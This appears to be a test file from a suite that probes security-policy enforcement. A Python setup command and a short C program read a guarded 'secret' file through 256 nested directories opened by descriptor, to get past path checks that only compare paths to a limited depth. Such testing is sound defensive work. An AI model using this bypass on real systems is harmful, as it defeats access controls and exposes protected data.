// tries: to read a file 256 folders down a forbidden place
// works: paths are walked to any depth by descriptors
// see: CVE-2025-11001 and kin (limits on depth); KubeArmor compares bounded paths
// goal: read
// first: python3 -S -c "import os; e = os.environ; os.chdir(e['GUARDED']); t = open('secret').read(); [(os.mkdir('d'), os.chown('d', 1000, 1000), os.chdir('d')) for _ in range(256)]; open('here', 'w').write(t); os.chown('here', 1000, 1000)"
#include "../kit.h"

int main(void)
{
	int at = MUST(open(env("GUARDED"), O_PATH));

	for (int i = 0; i < 256; i++) {
		int next = MUST(openat(at, "d", O_PATH));
		close(at);
		at = next;
	}
	return print_from(MUST(openat(at, "here", O_RDONLY)));
}
